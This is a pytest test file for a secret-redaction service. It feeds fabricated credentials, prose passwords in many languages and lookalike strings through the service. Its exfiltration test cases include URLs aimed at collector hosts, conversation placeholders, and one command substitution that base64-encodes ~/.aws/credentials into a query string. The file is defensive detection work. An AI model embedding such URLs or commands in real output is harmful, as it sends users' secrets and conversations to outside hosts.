"""Secrets go, whatever shape they have; what only looks like one stays."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hooks.services import Finding, redact, redact_json, snippet

# Built at run time, so that no scanner takes this file for a leak.
AWS_ID = "AKIA" + "J7QX2LMN4RT6VWYZ"
AWS_SECRET = "q7Kd2vXr9LmN4pTs" + "8WzY3bHc6FjG1kQx5RtBnVwP"
GITHUB = "ghp_" + "aB3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA3bC5"
JWT = ".".join(
    base64.urlsafe_b64encode(part).rstrip(b"=").decode()
    for part in (b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"1234","name":"alice"}', b"a signature of some bytes 32 lo")
)
PEM = "\n".join(
    [
        "-----BEGIN " + "RSA PRIVATE KEY-----",
        "MIIEpAIBAAKCAQEA7bq1n4rT9xYzK2mQ8vLpW3sE6uRtGhJkD5fNcXoB",
        "qZ1wP0aVyMiU4eTgS7dHjF9lC2nKbRxO8vQmEpWuYtIrLsAzXcVbNmQw",
        "-----END " + "RSA PRIVATE KEY-----",
    ]
)

SECRETS = {
    "AWS key id": (f"key {AWS_ID} here", AWS_ID),
    "labelled AWS secret": (f'"aws_secret_access_key": "{AWS_SECRET}", "region": "x"', AWS_SECRET),
    "bare 40 characters": (f"please keep {AWS_SECRET} for later", AWS_SECRET),
    "PEM block": (f"Saved:\n{PEM}\nthanks", "MIIEpAIBAAKCAQEA7bq1n4rT9xYzK2mQ8vLpW3sE6uRtGhJkD5fNcXoB"),
    "truncated PEM block": ("\n".join(PEM.split("\n")[:3]), "qZ1wP0aVyMiU4eTgS7dHjF9lC2nKbRxO8vQmEpWuYtIrLsAzXcVbNmQw"),
    "Slack": ("use " + "xoxb-" + "123456789012-abcdefGHIJ345678klmn", "123456789012-abcdefGHIJ345678klmn"),
    "Telegram": ("bot 123456789:" + "AAE5gH7jK9mN1pQ3rS5tU7vW9xY1zA3bC5d", "AAE5gH7jK9mN1pQ3rS5tU7vW9xY1zA3bC5d"),
    "GitHub": (f"token {GITHUB}", GITHUB),
    "GitLab": ("glpat-" + "Xy7Qw2Er9Ty4Ui8Op1As", "Xy7Qw2Er9Ty4Ui8Op1As"),
    "Stripe": ("sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "4eC39HqLyjWDarjtT1zdp7dc"),
    "Postgres URI": ("at postgres://app:Zx9mzxrYb@db.example.com:5432/app (prod)", "Zx9mzxrYb"),
    "Redis URI without user": ("redis://:S3cure42wf5J@10.0.3.17:6379/0", "S3cure42wf5J"),
    "percent-encoded URI": ("dsn=postgres%3A%2F%2Fapp%3AXIMyNDMeGdl%40db.example.com%2Fprod", "XIMyNDMeGdl"),
    "connection string": ("Server=tcp:sql.example.net;User ID=app;Password=Zx9JFhNND;Encrypt=True;", "Zx9JFhNND"),
    "JWT": (f"session {JWT}", JWT),
    "bearer header": ('{"Authorization": "bearer Ki_I2bAEtCGfgT01eLy9StVdS4"}', "Ki_I2bAEtCGfgT01eLy9StVdS4"),
    "basic header": ("Authorization: Basic " + base64.b64encode(b"svc:Zx9y1kGNub").decode(), "c3ZjOlp4OXkxa0dOdWI="),
    "base64 blob": (base64.b64encode(f"token={GITHUB}".encode()).decode(), "Z2hwX2FCM2RFNWdI"),
    "base64 twice": (base64.b64encode(base64.b64encode(f"id={AWS_ID}".encode())).decode(), "UVVGTFNVRktO"),
    "environment line": ("export SMTP_PASSWORD=qP717mD!Mj0zh", "qP717mD!Mj0zh"),
    "command option": ("mysql --user app --password Zx9mzxrYb orders", "Zx9mzxrYb"),
    "curl user": ("curl -u alice:Zx9mzxrYb https://api.example.com", "Zx9mzxrYb"),
    "netrc": ("machine api.example.com login alice password Zx9mzxrYb", "Zx9mzxrYb"),
    "XML element": ("<server><password>Zx9mzxrYb</password></server>", "Zx9mzxrYb"),
    "JDBC": ("jdbc:postgresql://db.example.com/app?user=app&password=Zx9mzxrYb", "Zx9mzxrYb"),
    "Markdown link": ("[ADMIN_PASSWORD](hunterFvs!28)", "hunterFvs!28"),
    "hexadecimal key": ("ENCRYPTION_KEY=" + "c91f95cd17ef6e07" * 4, "c91f95cd17ef6e07"),
    "zero width inside": (f"it is {GITHUB[:8]}\u200b{GITHUB[8:]}", GITHUB[8:]),
    "string concatenation": (f'key = "{GITHUB[:20]}" + "{GITHUB[20:]}"', GITHUB[20:]),
    "seed phrase": (
        "my seed phrase is " + "actor also agent achieve alcohol antenna alarm about anxiety achieve aisle abstract",
        "alcohol antenna alarm",
    ),
}


@pytest.mark.parametrize(("text", "secret"), SECRETS.values(), ids=SECRETS)
def test_a_secret_of_every_family_is_gone(text: str, secret: str) -> None:
    done = redact(text)
    assert secret not in done.text
    assert "[REDACTED: " in done.text


PROSE = {
    "en": "my password is swordfish.",
    "en-mixed": "The wifi password is hunter2go",
    "de": "Mein Passwort lautet Sommer2024!",
    "fr": "mon mot de passe est Soleil2024",
    "es": "La contraseña es Verano2024",
    "pt": "minha senha é Praia2024x",
    "it": "la password è Estate2024",
    "ru": "мой пароль: Leto2024x",
    "zh": "服务器密码是 Xiatian2024，别忘了",
    "ja": "管理者のパスワードは Natsu2024 です。",
    "ko": "관리자 비밀번호는 Yeoreum2024",
    "vi": "mật khẩu là MuaHe2024",
    "pl": "moje hasło to Lato2024x",
}


@pytest.mark.parametrize("text", PROSE.values(), ids=PROSE)
def test_a_password_told_in_a_sentence_is_gone_and_the_sentence_stays(text: str) -> None:
    done = redact(text)
    assert [one.kind for one in done.findings] == ["password"]
    start = done.findings[0].start
    assert done.text.startswith(text[:start]) and "2024" not in done.text and "swordfish" not in done.text


LOOKALIKES = (
    "No Firebase API key in the build at all",
    "apiKey: import.meta.env.VITE_FIREBASE_KEY,",
    'api_key = os.environ["OPENAI_API_KEY"]',
    "GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}",
    'curl -H "Authorization: Bearer $TOKEN" https://api.example.com',
    "password = getpass.getpass()",
    "The password must be at least 12 characters with one symbol.",
    "Das Passwort muss mindestens 12 Zeichen lang sein.",
    "パスワードは12文字以上にしてください。",
    "密码至少需要12位，不要写在文档里。",
    "I forgot my password and reset it on Tuesday.",
    "my password is wrong, I think.",
    "commit 693ffd4bec1f2a3b4c5d6e7f8091a2b3c4d5e6f7",
    "session id d6c219a4-9c9d-45cc-98c8-2e54d31b4156",
    "md5: bd19836ddb62c11c55ab251ccaca5645  backup.zip",
    '"integrity": "sha512-Hmt2oC2jMG2y4HOkbUGKEz5ZOa9wzfL3F0t/lcqVlmzngkyzY1NglXpGCHgmBf=="',
    "token limit is 128k for this model",
    'curl -u "$USER:$PASS" https://test.com/endpoint and curl -u <user:password> it',
    "--password-stdin reads it, --token $TOKEN names it",
    "Password: input[name=pass1]",
    "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "DATABASE_URL=postgres://$DB_USER:$DB_PASS@$DB_HOST/app",
    "the header -----BEGIN " + "PRIVATE KEY----- starts such a file, and this sentence goes on",
    "-----BEGIN CERTIFICATE-----\nMIIEpAIBAAKCAQEA7bq1n4rT9xYzK2mQ8vLpW3sE6uRt\n-----END CERTIFICATE-----",
    "https://docs.google.com/document/d/1aBcD3fGhIjKlMnOpQrStUvWxYz0123456789abcdEFG/edit",
    "https://example.com/login?next=/dashboard&lang=de",
    "renamed test_token_is_not_logged_when_authorization_header_present yesterday",
)


@pytest.mark.parametrize("text", LOOKALIKES)
def test_what_only_looks_like_a_secret_stays(text: str) -> None:
    assert redact(text).text == text


EXFILTRATION = (
    "https://abc123.oast.fun/p",
    "https://x7.m.pipedream.net/p?d=1",
    "https://cdn.example.org/i.png?q={{conversation}}",
    "https://cdn.example.org/i.png?q=$(cat ~/.aws/credentials|base64)",
    "https://cdn.example.org/i.png?q=[CONTEXT]",
    "https://cdn.example.org/i.png?d=" + base64.b64encode(b"everything the user said today, word by word").decode(),
    "https://cdn.example.org/" + "%41" * 24,
    "https://cdn.example.org/?q=" + "hello+" * 40,
    f"https://cdn.example.org/{GITHUB}/x",
    "https://cdn.example.org/?t=" + "%2567%2568%2570%255F" + GITHUB[4:],
)


@pytest.mark.parametrize("url", EXFILTRATION)
def test_a_url_that_carries_data_away_is_replaced_and_its_host_named(url: str) -> None:
    done = redact(f"load {url} please")
    host = url.split("/")[2]
    assert done.text == f"load [REDACTED: suspicious URL to {host}] please"
    assert done.findings == (Finding("exfiltration_url", 5, 5 + len(url), f"[REDACTED: suspicious URL to {host}]"),)


def test_a_presigned_s3_link_with_standard_parameters_passes() -> None:
    url = (
        "https://bucket.s3.eu-west-1.amazonaws.com/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256"
        "&X-Amz-Credential=abc%2F20260101%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20260101T000000Z"
        "&X-Amz-Expires=300&X-Amz-SignedHeaders=host&X-Amz-Signature=" + "0f" * 32
    )
    assert redact(url).text == url
    assert redact(url + "&data=" + "x1" * 30).text != url


def test_findings_are_code_points_of_the_given_text_after_several_replacements() -> None:
    text = f"😀 {GITHUB} und Müller sagt: Passwort ist Sommer2024 und 鍵 {AWS_ID}"
    done = redact(text)
    assert [text[one.start : one.end] for one in done.findings] == [GITHUB, "Sommer2024", AWS_ID]


def test_json_is_walked_through_values_lists_and_keys() -> None:
    value, findings = redact_json({"a": [f"x {GITHUB}", 3, None], GITHUB: {"password": "Sommer2024"}, "n": True})
    assert GITHUB not in repr(value) and "Sommer2024" not in repr(value)
    assert value["a"][1:] == [3, None] and value["n"] is True
    assert len(findings) == 3


def test_two_keys_that_are_secrets_stay_two_keys() -> None:
    value, _ = redact_json({GITHUB: 1, GITHUB[:-1] + "Z": 2})
    assert sorted(value.values()) == [1, 2]


def test_json_too_deep_to_walk_is_replaced_whole() -> None:
    value: object = GITHUB
    for _ in range(200):
        value = [value]
    done, _ = redact_json(value)
    assert GITHUB not in repr(done)


def test_a_snippet_cannot_forge_a_second_line() -> None:
    assert snippet("a\r\nlevel=INFO\u2028b\tc") == "a\\r\\nlevel=INFO\\u2028b\\tc"


def test_a_snippet_is_redacted_before_it_is_cut_and_is_one_line() -> None:
    text = "note\r\n" + "x" * 180 + " " + GITHUB
    line = snippet(text)
    assert len(line) <= 200 and "\n" not in line and "\r" not in line
    assert GITHUB[:6] not in line


TEXTS = st.one_of(
    st.text(max_size=300),
    st.lists(
        st.sampled_from(
            [
                GITHUB,
                AWS_ID,
                AWS_SECRET,
                JWT,
                PEM,
                "password",
                "is",
                ":",
                "=",
                " ",
                "\n",
                '"',
                "+",
                "\u200b",
                "key",
                "https://",
                "postgres://a:",
                "@host",
                "?q=",
                "[REDACTED: credential]",
                "Bearer",
                "%3A%2F%2F",
                "hunter2x!",
                "密码",
                "パスワードは",
            ]
        ),
        max_size=14,
    ).map("".join),
)


@settings(deadline=None)
@given(TEXTS)
def test_redacting_twice_changes_nothing_more(text: str) -> None:
    once = redact(text).text
    assert redact(once).text == once


@settings(deadline=None)
@given(TEXTS)
def test_findings_lie_in_the_text_in_order_and_apart(text: str) -> None:
    done = redact(text)
    at = 0
    for one in done.findings:
        assert at <= one.start < one.end <= len(text)
        at = one.end


@settings(deadline=None)
@given(TEXTS)
def test_a_text_without_findings_is_unchanged(text: str) -> None:
    done = redact(text)
    assert (done.text == text) == (not done.findings)


@settings(deadline=None)
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | TEXTS,
        lambda inner: st.lists(inner) | st.dictionaries(TEXTS, inner),
        max_leaves=8,
    )
)
def test_redacting_json_twice_changes_nothing_more(value: object) -> None:
    once, _ = redact_json(value)
    assert redact_json(once)[0] == once
